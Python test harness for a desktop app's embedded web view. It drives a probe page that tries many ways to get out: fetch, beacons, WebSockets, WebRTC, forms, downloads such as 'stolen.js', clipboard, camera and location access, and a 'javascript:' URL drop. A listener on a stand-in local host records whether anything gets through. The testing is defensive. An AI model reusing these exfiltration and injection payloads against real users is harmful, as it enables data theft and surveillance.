"""Runs the real window with the probe page, lets a script in the page try every way out, and prints what came of it.

    python drive_ways_out.py FOLDER

The page plays an attacker: only the window and the server's headers stop it.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
import time
from pathlib import Path

sys.path[:0] = [str(Path(__file__).resolve().parent)]

from drive_window import Driver, main  # noqa: E402
from process_tree import descendants  # noqa: E402
from PySide6.QtCore import QUrl  # noqa: E402
from PySide6.QtWidgets import QApplication  # noqa: E402

ELSEWHERE = "127.0.0.2"
"""Reached without a network, and not the server's own address."""

CLICK = "((link) => { document.body.append(link); link.click(); link.remove(); return 'clicked'; })"
LINK = "Object.assign(document.createElement('a'), "
BLOB = "URL.createObjectURL(new Blob(['<p>made'], { type: 'text/html' }))"


def added(tag: str, place: str, **properties: str) -> str:
    """A script that puts an element into the page's head or body."""
    element = f"Object.assign(document.createElement('{tag}'), {json.dumps(properties)})"
    return f"(document.{place}.append({element}), 'added')"


ATTEMPTS = {
    "a link": f"{CLICK}({LINK}{{ href: 'ELSEWHERE/link' }}))",
    "a link to a new window": f"{CLICK}({LINK}{{ href: 'ELSEWHERE/blank', target: '_blank' }}))",
    "a new window of its own": "String(window.open('index.html'))",
    "a new window of somebody else": "String(window.open('ELSEWHERE/window'))",
    "a download": f"{CLICK}({LINK}{{ href: 'probe.js', download: 'stolen.js' }}))",
    "a download of what it made": f"{CLICK}({LINK}{{ href: {BLOB}, download: 'made.html' }}))",
    "a page that it made": f"{CLICK}({LINK}{{ href: {BLOB} }}))",
    "a form": """((form) => {
        form.action = 'ELSEWHERE/form';
        document.body.append(form);
        form.submit();
        return 'sent';
    })(document.createElement('form'))""",
    "a refresh": added("meta", "head", httpEquiv="refresh", content="0; url=ELSEWHERE/refresh"),
    "a frame": added("iframe", "body", src="ELSEWHERE/frame"),
    "a picture": """new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = () => resolve('there');
        image.onerror = () => reject(new Error('refused'));
        image.src = 'ELSEWHERE/picture';
    })""",
    "a request": "fetch('ELSEWHERE/request', { mode: 'no-cors' }).then(() => 'sent')",
    "a beacon": "String(navigator.sendBeacon('ELSEWHERE/beacon', 'x'))",
    "a socket": """new Promise((resolve, reject) => {
        const socket = new WebSocket('ELSEWHERE/socket'.replace('http', 'ws'));
        socket.onopen = () => resolve('open');
        socket.onerror = () => reject(new Error('refused'));
    })""",
    "a connection made ready": added("link", "head", rel="preconnect", href="ELSEWHERE"),
    "a page fetched beforehand": added("link", "head", rel="prefetch", href="ELSEWHERE/prefetch"),
    "a call": """(async () => {
        const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.2:PORT' },
            { urls: 'turn:127.0.0.2:PORT?transport=tcp', username: 'photos', credential: 'x' }] });
        call.createDataChannel('x');
        await call.setLocalDescription(await call.createOffer());
        await new Promise((resolve) => setTimeout(resolve, 2000));
        return 'tried';
    })()""",
    "a worker": "((worker) => String(worker))(new Worker('probe.js'))",
    "a service worker": "navigator.serviceWorker.register('probe.js').then(() => 'registered')",
    "the camera": "navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'seen')",
    "the microphone": "navigator.mediaDevices.getUserMedia({ audio: true }).then(() => 'heard')",
    "the screen": "navigator.mediaDevices.getDisplayMedia().then(() => 'seen')",
    "the place": """new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(
        () => resolve('known'), (error) => reject(new Error(String(error.code)))))""",
    "the clipboard": "navigator.clipboard.readText()",
    "messages": "Notification.requestPermission()",
    "the whole screen": "document.documentElement.requestFullscreen().then(() => 'full')",
}


class WaysOut(Driver):
    """The driver with attempts to get out, and a server elsewhere that notes whether anybody comes."""

    def __init__(self, folder: Path) -> None:
        super().__init__(folder)
        self.heard: list[str] = []
        self.stream = socket.create_server((ELSEWHERE, 0))
        self.port = self.stream.getsockname()[1]
        self.datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.datagrams.bind((ELSEWHERE, self.port))
        for listen in (self.listen_to_stream, self.listen_to_datagrams):
            threading.Thread(target=listen, daemon=True).start()

    def listen_to_stream(self) -> None:
        while True:
            connection, _ = self.stream.accept()
            connection.settimeout(1)
            try:
                self.heard.append(connection.recv(100).split(b"\r\n")[0].decode("latin-1") or "a connection")
            except TimeoutError:
                self.heard.append("a silent connection")
            connection.close()

    def listen_to_datagrams(self) -> None:
        while self.datagrams.recv(2000):
            self.heard.append("a datagram")

    def run(self) -> None:
        self.greeting()
        self.ask("window.old = true; 1")
        self.seen["attempts"] = {}
        for name, attempt in ATTEMPTS.items():
            text = attempt.replace("ELSEWHERE", f"http://{ELSEWHERE}:{self.port}").replace("PORT", str(self.port))
            self.seen["attempts"][name] = self.value(text)
            time.sleep(0.1)
        self.drop([QUrl(f"http://{ELSEWHERE}:{self.port}/dropped")])
        self.drop([QUrl("https://example.com/photo.jpg"), QUrl("javascript:document.title='owned'")])
        time.sleep(1)
        self.seen["still here"] = self.ask("window.old === true") is True and self.ready()
        self.seen["photos"] = len(self.app.album.photos())
        self.seen["windows"] = sum(one.isVisible() for one in QApplication.topLevelWidgets())
        self.seen["files"] = [path.name for path in Path.home().rglob("*") if path.name in ("stolen.js", "made.html")]
        self.seen["heard elsewhere"] = self.heard
        self.seen["allowed"] = self.value("document.featurePolicy.allowedFeatures()")["value"]
        self.seen["menu"] = self.app.window.native.webview.contextMenuPolicy().name
        self.seen["ports"] = {"own": [int(self.app.server.origin.rpartition(":")[2]), self.port], "all": listening()}


def listening() -> list[int]:
    """Ports on which this process and its children wait for TCP connections."""
    links = set()
    for process in {os.getpid(), *descendants(os.getpid())}:
        for descriptor in Path(f"/proc/{process}/fd").glob("*"):
            try:
                links.add(os.readlink(descriptor))  # noqa: PTH115  (the target is not a path)
            except OSError:
                continue
    lines = [
        line.split() for name in ("tcp", "tcp6") for line in Path(f"/proc/net/{name}").read_text().splitlines()[1:]
    ]
    return sorted(
        int(line[1].split(":")[1], 16) for line in lines if line[3] == "0A" and f"socket:[{line[9]}]" in links
    )


if __name__ == "__main__":
    main(WaysOut)
